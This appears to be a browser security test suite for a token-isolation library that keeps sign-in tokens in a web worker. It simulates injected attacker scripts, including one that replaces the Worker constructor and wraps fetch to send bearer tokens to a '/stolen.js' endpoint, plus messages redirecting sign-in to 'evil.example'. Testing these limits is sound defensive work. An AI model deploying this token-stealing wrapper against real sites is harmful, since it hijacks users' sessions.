import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type AppInChromium, startApp } from '../support/app-in-chromium.js'
import { type EchoApi, startEchoApi } from '../support/echo-api.js'
import { isolatedScript } from '../support/isolated-script.js'
import { expectReadmeSays } from '../support/readme.js'
import { type Spying, spy } from '../support/spy.js'
import type { App } from './pages/app.js'
import type { IsolatedApp } from './pages/isolated.js'

// What a script in the page gets of a session whose tokens stay in a worker; and that the same script gets them where they do not.

declare const app: IsolatedApp

let here: AppInChromium
let echo: EchoApi
let script = ''
/** What the script of an attacker brought home. */
const stolen: string[] = []

async function start(dpop: boolean): Promise<void> {
  script = await isolatedScript()
  echo = await startEchoApi()
  here = await startApp({
    bundleEntry: new URL('./pages/isolated.ts', import.meta.url),
    dpop,
    otherApi: echo.origin,
    addressIsSaid: true,
    trustedTypes: 'application attacker',
    script: (path) => {
      if (path.startsWith('/stolen.js?')) stolen.push(decodeURIComponent(path.slice('/stolen.js?'.length)))
      const text = { '/tokens.js': script, '/wrapped.js': wrapped, '/stolen.js': '' }[path.replace(/\?.*/, '')]
      return text === undefined ? undefined : { text }
    },
  })
}

async function end(): Promise<void> {
  await here?.close()
  await echo?.close()
}

/** The worker's own script, behind one that hears its requests. */
const wrapped = `
  const { fetch } = self
  self.fetch = (input, init) => {
    const token = new Headers(init?.headers).get('authorization')
    if (token !== null) void fetch('/stolen.js?' + encodeURIComponent(token))
    return fetch(input, init)
  }
  import('/tokens.js')
`

/** Tokens, and what brings some: all that was issued but the codes, which every page sees in its address. */
const tokens = (of: AppInChromium): readonly string[] => of.server.issued().filter((text) => !of.codes.has(text))

const lootOf = (tab: Page): Promise<string> => tab.evaluate(() => (globalThis as unknown as Spying).loot())

describe('an isolated session', () => {
  beforeAll(() => start(false))
  afterEach(() => here.endOfTest())
  afterAll(end)

  test('a script injected after load, which replaces and reads whatever it can, finds no token of sign-in, calls, renewals and sign-out', async () => {
    const tab = await here.leaveAndReturn(await here.open())
    await tab.evaluate(spy)
    expect(await here.resume(tab)).toBe(true)
    const before = here.server.counters.refreshes
    echo.refuseNext = true
    const outcomes = await tab.evaluate(async () => {
      const { call, origins, outcome } = app
      return [
        await call(`${origins.api}/notes`),
        await call(`${origins.otherApi}/echo`, { method: 'POST', body: 'text', headers: { 'x-own': 'own' } }),
        await call(`${origins.api}/notes`, { headers: { authorization: 'Bearer mine' } }),
        await outcome((session) => session.token()),
      ]
    })
    expect(outcomes).toEqual([200, 201, 'invalid_configuration', 'token_isolated'])
    expect(here.server.counters.refreshes - before).toBe(1)
    const duringSession = await lootOf(tab)
    await tab.evaluate(() => app.outcome((session) => session.signOut()))
    const loot = `${duringSession}\n${await lootOf(tab)}`
    expect(loot).toContain('notes:read')
    expect(tokens(here).length).toBeGreaterThan(4)
    expect(tokens(here).filter((text) => loot.includes(text))).toEqual([])
  })

  test('a script that talks to the worker itself gets what the page gets: calls to the worker’s resources, no token, and no other redirect URI', async () => {
    const tab = await here.signIn()
    const heard = await tab.evaluate(async () => {
      const { port1: mine, port2: its } = new MessageChannel()
      const [said, all]: [(message: object) => Promise<unknown>, unknown[]] = [
        (message) =>
          new Promise((resolve) => {
            mine.onmessage = ({ data }: MessageEvent<unknown>) => (all.push(data), resolve(data))
            mine.postMessage(message)
          }),
        [],
      ]
      const greeted = new Promise((resolve) => (mine.onmessage = resolve))
      app.worker.postMessage({ valetkey: 'connect' }, [its])
      await greeted
      const seen = { address: location.href, isFramed: false, isAttended: true }
      const elsewhere = { ...seen, address: 'https://evil.example/' }
      for (const valetkey of ['token', 'reveal', 'record', 'snapshot', 'get']) mine.postMessage({ valetkey, id: 1, seen })
      mine.postMessage({ valetkey: 'sign_in', id: 2, seen: elsewhere, options: {} })
      const own = { authorizationParameters: { redirect_uri: 'https://evil.example/' } }
      await said({ valetkey: 'sign_in', id: 3, seen, options: own })
      await said({ valetkey: 'sign_in', id: 4, seen, options: { returnTo: 'https://evil.example/' } })
      await said({ valetkey: 'resume', id: 5, seen })
      return all
    })
    expect(heard).toMatchObject([
      { valetkey: 'done', id: 3, error: { code: 'invalid_configuration' } },
      { valetkey: 'done', id: 4, error: { code: 'invalid_configuration' } },
      { valetkey: 'done', id: 5, value: true },
    ])
    expect(tokens(here).filter((text) => JSON.stringify(heard).includes(text))).toEqual([])
  })

  test('attack 47 whoever replaces Worker before the page’s own script runs has the tokens', async () => {
    const tab = await here.open('/', () => {
      interface Factory {
        createPolicy(name: string, rules: object): { createScriptURL(address: string): string }
      }
      const { trustedTypes } = globalThis as unknown as { readonly trustedTypes?: Factory }
      const policy = trustedTypes?.createPolicy('attacker', { createScriptURL: (address: string) => address })
      const Original = Worker
      globalThis.Worker = class extends Original {
        constructor(_: string | URL, options?: WorkerOptions) {
          super(policy?.createScriptURL('/wrapped.js') ?? '/wrapped.js', options)
        }
      }
    })
    await here.leaveAndReturn(tab)
    expect(await here.resume(tab)).toBe(true)
    expect(await tab.evaluate(() => app.call(`${app.origins.api}/notes`))).toBe(200)
    await expect.poll(() => tokens(here).filter((text) => stolen.includes(`Bearer ${text}`)).length).toBe(1)
    expectReadmeSays('A script that runs before yours can replace `Worker`, and then has everything')
  })
})

describe('an isolated session of bound tokens', () => {
  beforeAll(() => start(true))
  afterEach(() => here.endOfTest())
  afterAll(end)

  test('proves the code and the calls with one key, which no script can read out, and keeps the key alone', async () => {
    const tab = await here.signIn()
    await tab.evaluate(spy)
    expect(await tab.evaluate(() => app.call(`${app.origins.api}/notes`))).toBe(200)
    const kept = await tab.evaluate(async () => {
      const settled = <T>(request: IDBRequest<T>) =>
        new Promise<T>((onsuccess, onerror) => Object.assign(request, { onsuccess: () => onsuccess(request.result), onerror }))
      const open = await settled(indexedDB.open('valetkey'))
      const records = open.transaction('records').objectStore('records')
      const [keys, values] = [await settled(records.getAllKeys()), await settled(records.getAll())]
      open.close()
      return values.map((value: { privateKey?: CryptoKey; key?: CryptoKey }, index) => [
        String(keys[index]).split(' ')[0],
        (value.privateKey ?? value.key)?.extractable,
      ])
    })
    expect(kept.toSorted()).toEqual([
      ['key', false],
      ['sealing', false],
    ])
    const loot = await lootOf(tab)
    expect(tokens(here).filter((text) => loot.includes(text))).toEqual([])
  })
})

test('the same script has the tokens of a session that is not isolated', async () => {
  const other = await startApp()
  const tab = await other.leaveAndReturn(await other.open())
  await tab.evaluate(spy)
  expect(await other.resume(tab)).toBe(true)
  await tab.evaluate(() => (app as unknown as App).call('/notes'))
  const loot = await lootOf(tab)
  expect(tokens(other).filter((text) => loot.includes(text)).length).toBeGreaterThanOrEqual(2)
  await other.close()
})
